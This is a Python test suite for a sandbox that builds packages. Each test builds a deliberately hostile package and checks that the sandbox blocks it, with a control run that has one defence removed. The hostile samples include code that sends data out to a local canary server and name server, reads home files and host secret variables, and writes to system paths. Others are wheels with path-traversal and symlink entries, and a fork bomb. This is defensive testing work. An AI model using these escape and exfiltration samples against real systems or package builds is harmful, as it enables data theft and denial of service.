"""Boundary: what hostile packages try.

One test for each attack, and its control: the same attack with one defence taken away.
"""

from __future__ import annotations

import io
import os
import socket
import stat
import tarfile
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from sandbox.models import Outcome
from tests.escape.bench import (
    HOST_NETWORK,
    UNCONFINED,
    WRITABLE_ROOT,
    Weakening,
    extra_mount,
    weakened,
    weakening,
    without_rlimit,
)
from tests.escape.build_bench import SYMLINK, Builds, hostile_wheel, probing_sdist
from tests.integration.package_index import PackageIndex, package_index, sdist, wheel
from tests.waiting import SLOWER

pytestmark = pytest.mark.host_only

FORKS = 100
SECRET = b"secret"
# What a package's own code tries while it is built; the names in capitals are filled in.
ATTACK = """
import errno, os, signal, socket, urllib.request
def attempt(what, function):
    try:
        found[what] = str(function() or "ok")
    except OSError as error:
        reason = getattr(error, "reason", error)
        code = getattr(error, "code", None) or errno.errorcode.get(getattr(reason, "errno", None))
        found[what] = str(code or type(error).__name__)
def fetch(way, *proxies):
    opener = urllib.request.build_opener(*proxies)
    return opener.open("http://127.0.0.1:TCP/" + way, timeout=5).status
def ask_name_server():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.connect(("127.0.0.1", UDP))
        end.send(b"secret")
        end.settimeout(0.1)
        end.recv(1)
def tunnel_to_a_name():
    with socket.create_connection(("127.0.0.1", 3128), 5) as end:
        end.sendall(b"CONNECT NAMED:443 HTTP/1.1\\r\\nHost: NAMED:443\\r\\n\\r\\n")
        return end.recv(1000).split()[1].decode()
def write(path):
    with open(path, "w") as file:
        file.write("x")
def fork(count):
    children = []
    try:
        for _ in range(count):
            children.append(os.fork())
            if not children[-1]:
                signal.pause()
    except OSError as error:
        found["fork"] = errno.errorcode[error.errno]
    found["children"] = len(children)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
attempt("direct", lambda: fetch("direct", urllib.request.ProxyHandler({})))
attempt("proxy", lambda: fetch("proxy"))
attempt("name server", ask_name_server)
attempt("resolver", lambda: socket.getaddrinfo("secret.canary.example.com", 80))
attempt("tunnel", tunnel_to_a_name)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close())
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close())
attempt("home", lambda: open("CANARY/precious").read())
for path in WRITTEN:
    attempt(path, lambda: write(path))
attempt("/app/x", lambda: write("/app/x"))
fork(FORKS)
found["host"] = sorted(set(os.environ) & {"HOST_SECRET", "XDG_RUNTIME_DIR", "LOGNAME", "DBUS_SESSION_BUS_ADDRESS"})
"""
IMAGE_PATHS = ["/usr/x", "/usr/lib/x", "/etc/x"]
OUR_PATHS = ["/run/sandbox/x", "/run/sandbox/tools/uv", "/run/sandbox/lib/harness.py"]


@dataclass(kw_only=True)
class Targets:
    """What the attacks aim at: another server, a name server and a home's file, all of this test."""

    server: PackageIndex
    name_server: socket.socket
    canary: Path

    @property
    def port(self) -> int:
        return int(self.server.url.split(":")[2].split("/")[0])

    def attack(self, *, name: str) -> str:
        """Return the code of all attacks; `name` is what a tunnel is asked for to."""
        rows = {
            "TCP": self.port,
            "UDP": self.name_server.getsockname()[1],
            "CANARY": self.canary,
            "NAMED": name,
            "WRITTEN": [*IMAGE_PATHS, *OUR_PATHS, str(self.canary / "written")],
            "FORKS": FORKS,
        }
        text = ATTACK
        for key, value in rows.items():
            text = text.replace(key, str(value))
        return text

    def heard(self) -> list[str]:
        """Return what has come out since it was asked last."""
        paths = sorted(self.server.hits)
        self.server.hits.clear()
        try:
            while self.name_server.recv(100) == SECRET:
                paths.append("a question")
        except BlockingIOError:
            return sorted(set(paths))
        raise AssertionError("something else was sent")


@pytest.fixture(scope="module")
def targets() -> Iterator[Targets]:
    canary = Path.home() / f".canary-{os.getpid()}"
    canary.mkdir()
    canary.chmod(0o777)
    (canary / "precious").write_text("precious")
    (canary / "precious").chmod(0o644)
    with package_index() as server, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as name_server:
        server.files = {"x": b""}
        name_server.bind(("127.0.0.1", 0))
        name_server.setblocking(False)
        yield Targets(server=server, name_server=name_server, canary=canary)
    for path in canary.iterdir():
        path.unlink()
    canary.rmdir()


class Looked:
    """A resolver that only notes what it is asked."""

    def __init__(self) -> None:
        self.up: list[str] = []

    async def __call__(self, host: str, _port: int) -> Sequence[str]:
        self.up.append(host)
        return []


@dataclass(kw_only=True)
class Tried:
    """What became of the attacks: what they found inside, what came out, and what verification missed."""

    found: dict[str, Any]
    heard: list[str]
    looked_up: list[str]
    missed: frozenset[str] = frozenset()


def tried(builds: Builds, targets: Targets, weaken: Weakening | None = None, allow: Sequence[str] = ()) -> Tried:
    """Build a package that tries everything, in sandboxes without one control, or with one more host allowed."""
    name = f"attack{''.join(char for char in weaken.name if char.isalpha()) if weaken else len(allow)}"
    host = f"{name}.canary.example.com"
    # On the host's network, the sockets of the whole host count as its own.
    roomy = {"memory_mib": 4096} if weaken else {}
    rules = ["@index", *(rule.replace("NAMED", host) for rule in allow)]
    policy = builds.policy(allow_sdists=True, allow=rules, **roomy)
    lock = builds.lock_of(probing_sdist(name, targets.attack(name=host)))
    looked = Looked()
    targets.heard()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOST_SECRET", "precious")
        patch.setattr("sandbox.egress.proxy.system_resolve", looked)
        if weaken is None:
            built, made = builds.build(name, policy=policy, lock=lock), []
        else:
            with weakened(weaken) as made:
                built = builds.build(name, policy=policy, lock=lock)
    found = builds.value_in(built, f"import {name}\nresult = {name}.FOUND")
    missed = [set(sandbox.refusal.facts["controls"]) for sandbox in made if sandbox.refusal]
    return Tried(found=found, heard=targets.heard(), looked_up=looked.up, missed=frozenset().union(*missed))


@pytest.fixture(scope="module")
def held(builds: Builds, targets: Targets) -> Tried:
    """Give what the attacks reach in a build of the product."""
    return tried(builds, targets)


@pytest.fixture(scope="module")
def on_the_host_s_network(builds: Builds, targets: Targets) -> Tried:
    return tried(builds, targets, HOST_NETWORK)


@pytest.fixture(scope="module")
def allowed(builds: Builds, targets: Targets) -> Tried:
    """Give what they reach where the policy lists the other server and the name."""
    return tried(builds, targets, allow=[f"127.0.0.1:{targets.port}", "NAMED:443"])


# ---------------------------------------------------------------- ways out


def test_http_to_another_host_reaches_nothing(held: Tried) -> None:
    assert (held.found["direct"], held.found["proxy"]) == ("ECONNREFUSED", "403")
    assert held.heard == []


@pytest.mark.control
def test_the_same_http_reaches_the_host_on_its_network_and_what_a_policy_allows(
    on_the_host_s_network: Tried, allowed: Tried
) -> None:
    assert on_the_host_s_network.found["direct"] == "404"
    assert "/direct" in on_the_host_s_network.heard
    assert {"namespaces", "no network"} <= on_the_host_s_network.missed
    assert (allowed.found["direct"], allowed.found["proxy"]) == ("ECONNREFUSED", "404")
    assert allowed.heard == ["/proxy"]


def test_a_question_to_a_name_server_does_not_leave_the_build(held: Tried) -> None:
    assert (held.found["name server"], held.found["resolver"]) == ("ECONNREFUSED", "gaierror")
    assert "a question" not in held.heard


@pytest.mark.control
def test_the_same_question_is_heard_on_the_host_s_network(on_the_host_s_network: Tried) -> None:
    assert "a question" in on_the_host_s_network.heard


def test_a_name_that_no_rule_has_is_not_even_looked_up_by_the_proxy(held: Tried) -> None:
    assert held.found["tunnel"] == "403"
    assert held.looked_up == []


@pytest.mark.control
def test_the_same_name_is_looked_up_where_a_policy_allows_it(allowed: Tried) -> None:
    assert allowed.found["tunnel"] == "502"
    assert allowed.looked_up == ["attack2.canary.example.com"]


def test_raw_sockets_can_not_be_made(held: Tried) -> None:
    assert {held.found[kind] for kind in ("raw", "packet", "netlink")} == {"ENOSYS"}


@pytest.mark.control
def test_the_same_raw_sockets_can_be_made_without_the_filter_and_with_a_capability(
    builds: Builds, targets: Targets
) -> None:
    able = weakening("a capability for raw sockets", cap_add=["CAP_NET_RAW"])
    weak = tried(builds, targets, UNCONFINED + able)
    assert {weak.found[kind] for kind in ("raw", "packet", "netlink")} == {"ok"}
    assert {"seccomp", "no capabilities"} <= weak.missed


# ---------------------------------------------------------------- files and variables of the host


def test_nothing_outside_the_working_directories_is_written(held: Tried, targets: Targets) -> None:
    assert {held.found[path] for path in (*IMAGE_PATHS, *OUR_PATHS)} == {"EROFS"}
    assert held.found[f"{targets.canary}/written"] == "ENOENT"
    assert held.found["/app/x"] == "ok"
    assert not (targets.canary / "written").exists()


@pytest.mark.control
def test_the_same_writes_succeed_with_a_writable_root(builds: Builds, targets: Targets) -> None:
    able = weakening("a capability to write anywhere", cap_add=["CAP_DAC_OVERRIDE"])
    weak = tried(builds, targets, WRITABLE_ROOT + able)
    assert {weak.found[path] for path in IMAGE_PATHS} == {"ok"}
    assert {"read-only root", "no capabilities"} <= weak.missed


def test_a_home_and_the_host_s_variables_are_not_seen(held: Tried) -> None:
    assert held.found["home"] == "ENOENT"
    assert held.found["host"] == []


@pytest.mark.control
def test_the_same_code_reads_and_writes_a_home_that_is_mounted_and_a_variable_that_is_given(
    builds: Builds, targets: Targets
) -> None:
    def apply(podman: dict[str, Any]) -> None:
        podman["env"]["HOST_SECRET"] = "precious"

    given = Weakening(name="a variable", controls=frozenset({"launch"}), apply=apply)
    weak = tried(builds, targets, extra_mount(targets.canary, str(targets.canary), "rw") + given)
    assert (weak.found["home"], weak.found["host"]) == ("precious", ["HOST_SECRET"])
    assert (targets.canary / "written").read_text() == "x"
    (targets.canary / "written").unlink()
    assert {"mounts", "launch"} <= weak.missed


# ---------------------------------------------------------------- code that runs by itself


def with_setup_py(name: str, text: str) -> tuple[str, bytes]:
    """Return a source archive of the old kind, whose `setup.py` is executed to build it."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, body in {
            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
            "setup.py": text,
        }.items():
            member = tarfile.TarInfo(f"{name}-1.0/{path}")
            member.size = len(body.encode())
            archive.addfile(member, io.BytesIO(body.encode()))
    return f"{name}-1.0.tar.gz", buffer.getvalue()


# What stands for setuptools: it executes setup.py, and makes a wheel that tells what that found.
SETUPTOOLS = """
import os, zipfile
class __legacy__:
    def get_requires_for_build_wheel(self, config_settings=None):
        return []
    def build_wheel(self, wheel_directory, config_settings=None, metadata_directory=None):
        space = {"found": {}}
        exec(open("setup.py").read(), space)
        rows = dict(line.split(": ") for line in open("PKG-INFO").read().splitlines())
        name = rows["Name"]
        with zipfile.ZipFile(os.path.join(wheel_directory, name + "-1.0-py3-none-any.whl"), "w") as archive:
            archive.writestr(name + ".py", "FOUND = %r" % space["found"])
            archive.writestr(name + "-1.0.dist-info/METADATA", open("PKG-INFO").read())
            archive.writestr(name + "-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
            archive.writestr(name + "-1.0.dist-info/RECORD", "")
        return name + "-1.0-py3-none-any.whl"
__legacy__ = __legacy__()
"""


def test_code_in_setup_py_runs_only_where_a_policy_allows_it(builds: Builds) -> None:
    old = with_setup_py("oldstyle", "found['ran'] = __file__ if '__file__' in globals() else 'setup.py'")
    builds.index.add(
        old, wheel("setuptools", "99.0", {"setuptools/__init__.py": "", "setuptools/build_meta.py": SETUPTOOLS})
    )
    error = builds.refused("oldstyle")
    assert "oldstyle" in error.message
    assert builds.index.hits[f"/files/{old[0]}"] == 0
    # The control.
    built = builds.build("oldstyle", policy=builds.policy(allow_sdists=True))
    assert builds.value_in(built, "import oldstyle\nresult = oldstyle.FOUND") == {"ran": "setup.py"}


# ---------------------------------------------------------------- paths and links in a wheel


def naively_unpacked(archive: bytes, target: Path) -> None:
    """Unpack as an installer would that trusts names and modes."""
    with zipfile.ZipFile(io.BytesIO(archive)) as wheel_file:
        for entry in wheel_file.infolist():
            path = Path(os.path.join(target, entry.filename))  # an absolute name replaces the target
            path.parent.mkdir(parents=True, exist_ok=True)
            if stat.S_ISLNK(entry.external_attr >> 16):
                path.symlink_to(wheel_file.read(entry).decode())
            else:
                path.write_bytes(wheel_file.read(entry))


def test_an_absolute_path_in_a_wheel_is_refused(builds: Builds, tmp_path: Path) -> None:
    outside = tmp_path / "outside.py"
    archive = hostile_wheel("absolute", {"absolute.py": "", str(outside): "x"})
    error = builds.wheel_refused(archive)
    assert error.message == f"absolute 1.0 is broken or hostile: its file {str(outside)!r} leads out of it"
    assert not outside.exists()
    # The control.
    naively_unpacked(archive[1], tmp_path / "target")
    assert outside.read_text() == "x"


def test_a_path_above_the_tree_in_a_wheel_is_refused(builds: Builds, tmp_path: Path) -> None:
    archive = hostile_wheel("above", {"above.py": "", "../outside.py": "x"})
    error = builds.wheel_refused(archive)
    assert error.message == "above 1.0 is broken or hostile: its file '../outside.py' leads out of it"
    # The control.
    naively_unpacked(archive[1], tmp_path / "target")
    assert (tmp_path / "outside.py").read_text() == "x"


def test_a_link_in_a_wheel_becomes_a_file_that_leads_nowhere(builds: Builds, targets: Targets, tmp_path: Path) -> None:
    leads_to = str(targets.canary / "precious")
    archive = hostile_wheel("linked", {"linked.txt": leads_to, "linked.py": ""}, modes={"linked.txt": SYMLINK})
    built = builds.wheel_built(archive)
    code = "import os\npath = '/opt/environment/linked.txt'\nresult = [os.path.islink(path), open(path).read()]"
    assert builds.value_in(built, code) == [False, leads_to]
    # The control.
    naively_unpacked(archive[1], tmp_path / "target")
    assert (tmp_path / "target/linked.txt").read_text() == "precious"


def test_a_file_behind_a_link_in_a_wheel_is_refused(builds: Builds, targets: Targets, tmp_path: Path) -> None:
    rows: list[tuple[str, str | bytes]] = [("d", str(targets.canary)), ("d/through", "x"), ("behind.py", "")]
    archive = hostile_wheel("behind", rows, modes={"d": SYMLINK})
    assert "behind" in builds.wheel_refused(archive).message
    assert not (targets.canary / "through").exists()
    # The control.
    naively_unpacked(archive[1], tmp_path / "target")
    assert (targets.canary / "through").read_text() == "x"


# ---------------------------------------------------------------- processes


def test_a_build_has_only_the_processes_that_the_policy_gives(builds: Builds, held: Tried) -> None:
    assert held.found["fork"] == "EAGAIN"
    assert held.found["children"] <= builds.bench.policy(builds.policy()).build.processes


@pytest.mark.control
def test_the_same_code_has_more_without_the_limit(builds: Builds, targets: Targets) -> None:
    weak = tried(builds, targets, without_rlimit("nproc"))
    assert "fork" not in weak.found
    assert weak.found["children"] == FORKS
    assert "processes" in weak.missed


def test_a_fork_bomb_ends_its_build_in_words_and_leaves_nothing(builds: Builds) -> None:
    bomb = (
        "import os\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n"
    )
    error = builds.refused(
        "forkbomb",
        lock=builds.lock_of(sdist("forkbomb", "1.0", code=bomb)),
        policy=builds.policy(allow_sdists=True, timeout_s=4 * SLOWER),
    )
    assert error.facts["outcome"] == Outcome.TOO_MANY_PROCESSES.value
    assert error.message.startswith("fetching forkbomb==1.0 needed more than")
    assert "build.processes" in error.message
